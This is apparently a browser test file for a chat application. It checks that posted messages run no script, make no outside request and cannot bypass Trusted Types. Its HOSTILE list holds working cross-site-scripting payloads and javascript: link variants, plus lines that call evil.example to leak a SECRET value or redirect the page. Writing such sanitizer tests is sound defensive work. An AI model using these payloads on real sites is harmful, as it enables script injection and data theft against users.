// Reading is safe: whatever somebody writes runs no script, opens nothing and asks no other host for anything. (G24, B50–B54)
import { expect, test } from 'vitest';
import { newId } from '../../protocol/ids.ts';
import { openServer } from '../harness/in-test.ts';
import { openRoom, sees, useBrowser } from './windows.ts';

useBrowser();

const HOSTILE = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  '<form><input name=innerHTML></form><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<style>@import "https://evil.example/a.css"; * { background: url(https://evil.example/b) }</style>',
  '[click](javascript:window.pwned=1) [click](JaVaScRiPt&colon;window.pwned=1) [click](java\tscript:window.pwned=1)',
  '[click](data:text/html,<script>window.pwned=1</script>) [click](vbscript:x) [click](file:///etc/passwd) [click](//evil.example)',
  '![](https://evil.example/?q=SECRET) ![a][b]\n\n[b]: https://evil.example/c.png',
  '<link rel=prefetch href=https://evil.example/d><link rel=icon href=https://evil.example/e>',
  '```mermaid\ngraph TD; A-->B; click A "javascript:window.pwned=1"\n```',
  '```html\n<img src=https://evil.example/f onerror="window.pwned=1">\n```',
  '$\\href{javascript:window.pwned=1}{x}$ \\(\\htmlData{x=1}{y}\\)',
  'https://good.example@evil.example/ <https://evil.example/g>',
];

test('B50–B54: no hostile line runs a script, breaks the policy or leaves the page', async () => {
  const server = await openServer();
  const ana = await server.person('ana');
  const kitchen = await server.room('kitchen', ana);
  await server.core.batch.do(() => {
    for (const text of HOSTILE) server.core.messages.postMessage(ana.id, kitchen, { id: newId(), text });
    server.core.messages.postMessage(ana.id, kitchen, { id: newId(), text: 'the last line' });
  });
  // openRoom's window fails the test on a request elsewhere, a policy violation, a dialog or an error.
  const { page } = await openRoom(server.port, ana, kitchen);
  await sees(page, 'the last line');
  for (const link of await page.getByRole('log').getByRole('link').all()) {
    const href = (await link.getAttribute('href')) ?? '';
    expect(href).toMatch(/^(https?:|mailto:|#)/);
  }
  expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false);
});

test('G24: the page itself cannot put raw text into the document', async () => {
  const server = await openServer();
  const ana = await server.person('ana');
  const kitchen = await server.room('kitchen', ana);
  const { page, wrongs } = await openRoom(server.port, ana, kitchen);
  const thrown = await page.evaluate(() => {
    try {
      document.body.innerHTML = '<b>raw</b>';
      return 'nothing';
    } catch (error) {
      return (error as Error).name;
    }
  });
  expect(thrown).toBe('TypeError');
  await expect.poll(() => wrongs.length).toBe(1);
  expect(wrongs.splice(0)[0]).toMatch(/require-trusted-types-for/);
});
